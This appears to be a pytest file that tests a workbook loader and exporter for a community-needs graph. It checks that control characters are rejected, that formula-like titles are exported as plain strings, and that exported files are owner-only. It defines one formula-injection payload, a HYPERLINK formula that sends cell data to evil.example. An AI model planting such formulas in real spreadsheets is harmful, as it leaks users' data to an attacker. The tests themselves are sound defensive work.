"""Workbooks and exports that broke things later, as a red-team run found
them: control characters and overlong names refused at the load with their
``file:row:column``; an export that never crashes on what the graph holds,
keeps a formula-like title exact through a round trip, and writes files
only their owner can read."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from graph.connection import Graph
from graph.errors import ValidationError
from graph.introspect import count_nodes, count_relationships
from loaders.export import PRIVATE_FILE_MODE, export_workbook
from loaders.load import load_workbook
from queries.export import export_rows
from tests.loaders.workbooks import SMALL, copy_small, read_table, set_cell

CLI = [sys.executable, "-m", "api.cli"]

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")'


def _counts(graph: Graph) -> tuple[int, int]:
    return count_nodes(graph), count_relationships(graph)


@pytest.mark.parametrize(
    ("file", "row", "column", "value", "message"),
    [
        ("places.csv", 3, "name", "如意\x07社区", "control character U+0007 at position 3"),
        ("people.csv", 2, "name", "张\x00建国", "control character U+0000 at position 2"),
        ("needs.csv", 4, "title", "漏水\x1b[31m", "control character U+001B at position 3"),
        ("people.csv", 3, "phone", "138\x7f0000", "control character U+007F at position 4"),
        ("needs.csv", 2, "title", "长" * 201, "title too long: at most 200 characters, got 201"),
        ("places.csv", 2, "name", "名" * 201, "name too long: at most 200 characters, got 201"),
    ],
)
def test_bad_text_is_refused_at_its_cell_and_nothing_is_written(
    empty_graph: Graph,
    tmp_path: Path,
    file: str,
    row: int,
    column: str,
    value: str,
    message: str,
) -> None:
    load_workbook(empty_graph, SMALL)
    before = _counts(empty_graph)
    workbook = copy_small(tmp_path)
    set_cell(workbook, file, row, column, value)
    with pytest.raises(ValidationError) as caught:
        load_workbook(empty_graph, workbook)
    located = [str(problem) for problem in caught.value.problems]
    assert f"{file}:{row}:{column}: {message}" in " ".join(located), located
    assert _counts(empty_graph) == before


def test_tabs_newlines_and_windows_line_ends_load(empty_graph: Graph, tmp_path: Path) -> None:
    workbook = copy_small(tmp_path)
    set_cell(workbook, "needs.csv", 2, "title", "独居老人\t需要助餐\r\n每天中午")
    load_workbook(empty_graph, workbook)
    rows = empty_graph.query("MATCH (n:Need {id: 'N01'}) RETURN n.title AS title")
    assert rows[0]["title"] == "独居老人\t需要助餐\n每天中午"


def test_the_export_never_crashes_on_control_characters_the_graph_holds(
    empty_graph: Graph, tmp_path: Path
) -> None:
    load_workbook(empty_graph, SMALL)
    # Stored before such characters were refused, or by another tool.
    empty_graph.query(
        "MATCH (p:Person {id: 'P01'}) SET p.name = $name", {"name": "张\x07建\x00国"}, write=True
    )
    for target in (tmp_path / "backup.xlsx", tmp_path / "backup"):
        report = export_workbook(export_rows(empty_graph), target)
        assert report.warnings == (
            "people.csv:2:name: control character U+0007 at position 2 left out",
        )
        assert report.rows["people.csv"] == 14
    reloaded = read_table(tmp_path / "backup", "people.csv")
    assert reloaded[1][:2] == ["P01", "张建国"]
    # What it wrote loads again.
    load_workbook(empty_graph, tmp_path / "backup.xlsx")
    rows = empty_graph.query("MATCH (p:Person {id: 'P01'}) RETURN p.name AS name")
    assert rows[0]["name"] == "张建国"


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_a_formula_like_title_round_trips_exactly(
    empty_graph: Graph, tmp_path: Path, form: str
) -> None:
    workbook = copy_small(tmp_path)
    set_cell(workbook, "needs.csv", 2, "title", FORMULA_TITLE)
    load_workbook(empty_graph, workbook)
    target = tmp_path / ("export.xlsx" if form == "xlsx" else "export")
    export_workbook(export_rows(empty_graph), target)
    if form == "xlsx":
        sheet = openpyxl.load_workbook(target)["needs"]
        cell = next(cell for cell in sheet["B"] if cell.value == FORMULA_TITLE)
        assert cell.data_type == "s"
    empty_graph.query(
        "MATCH (n:Need {id: 'N01'}) SET n.title = 'changed', n.name = 'changed'", write=True
    )
    load_workbook(empty_graph, target)
    rows = empty_graph.query("MATCH (n:Need {id: 'N01'}) RETURN n.title AS title")
    assert rows[0]["title"] == FORMULA_TITLE


def test_export_files_are_private(empty_graph: Graph, tmp_path: Path) -> None:
    load_workbook(empty_graph, SMALL)
    folder = tmp_path / "backup"
    folder.mkdir()
    (folder / "people.csv").write_text("left over", encoding="utf-8")
    os.chmod(folder / "people.csv", 0o644)
    report = export_workbook(export_rows(empty_graph), folder)
    xlsx = export_workbook(export_rows(empty_graph), tmp_path / "backup.xlsx")
    written = [*report.files, *xlsx.files]
    assert len(written) == 11 and folder / "people.csv" in written
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) == PRIVATE_FILE_MODE == 0o600, path


def test_the_export_command_says_its_files_hold_personal_data(graph: Graph, tmp_path: Path) -> None:
    # The session's graph holds whatever the tests before loaded; any will do.
    target = tmp_path / "backup.xlsx"
    done = subprocess.run(
        [*CLI, "export", str(target)], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert "personal data" in done.stdout and "mode 600" in done.stdout
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
